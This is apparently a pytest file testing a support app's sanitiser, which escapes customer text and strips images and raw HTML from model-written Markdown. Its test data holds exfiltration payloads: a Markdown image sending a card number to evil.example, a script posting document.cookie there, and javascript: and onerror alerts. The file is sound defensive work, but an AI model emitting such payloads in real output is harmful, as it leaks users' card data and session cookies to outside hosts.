"""Injection tests: customer text renders as typed; model Markdown loses images and raw HTML."""

from __future__ import annotations

import pytest

from specdesk.app.safe_markdown import clean_model_markdown, escape_customer_text

EXFILTRATION = "![status](https://evil.example/pixel.png?q=card-4111-1111)"


@pytest.mark.parametrize(
    "attack",
    [
        EXFILTRATION,
        '<img src="https://evil.example/x.png" onerror="alert(1)">',
        "<script>fetch('https://evil.example/'+document.cookie)</script>",
        "[click](javascript:alert(1))",
        "![ref][logo]\n\n[logo]: https://evil.example/logo.png",
        '<a href="https://evil.example">x</a> <iframe src="https://evil.example"></iframe>',
    ],
)
def test_customer_text_has_no_live_markup(attack: str) -> None:
    escaped = escape_customer_text(attack)
    assert "<" not in escaped and "![" not in escaped and "](" not in escaped
    assert "\\!\\[" in escaped or "&lt;" in escaped or "\\[" in escaped


def test_customer_text_keeps_its_characters() -> None:
    text = "# Order #12 * 2 items_total = $5 & <b>not bold</b>\n1. first\n    indented"
    escaped = escape_customer_text(text)
    assert escaped.startswith("\\# Order #12 \\* 2 items\\_total = \\$5 &amp; &lt;b&gt;not bold&lt;/b&gt;")
    assert "\n1\\. first" in escaped
    assert "\n\u00a0\u00a0\u00a0\u00a0indented" in escaped  # not an indented code block


def test_model_images_are_removed_but_alt_text_stays() -> None:
    cleaned = clean_model_markdown(f"Here is your status: {EXFILTRATION} done")
    assert "evil.example" not in cleaned
    assert "*[image removed: status]*" in cleaned


@pytest.mark.parametrize(
    "html_attack",
    [
        '<img src="https://evil.example/a.png">',
        "<script>alert(1)</script>",
        "<iframe src=x></iframe>",
        "<!-- c -->",
    ],
)
def test_model_raw_html_becomes_text(html_attack: str) -> None:
    cleaned = clean_model_markdown(f"Hello {html_attack} there")
    assert "<" not in cleaned.replace("&lt;", "")


def test_model_reference_images_and_unsafe_links_are_neutralised() -> None:
    cleaned = clean_model_markdown(
        "![a][r] and [go](javascript:alert(1)) and [web](https://ok.example)\n[r]: https://evil.example/i.png"
    )
    assert "![" not in cleaned and "\n\\[r]:" in cleaned
    assert "[go](" not in cleaned
    assert "[web](https://ok.example)" in cleaned


def test_model_formatting_and_code_survive() -> None:
    text = "**Refund**:\n\n1. Open *Orders*\n2. Click `Return <item>`\n\n```html\n<b>raw</b> ![x](y)\n```\n"
    cleaned = clean_model_markdown(text)
    assert cleaned == text  # nothing in code is touched; no HTML or image outside it
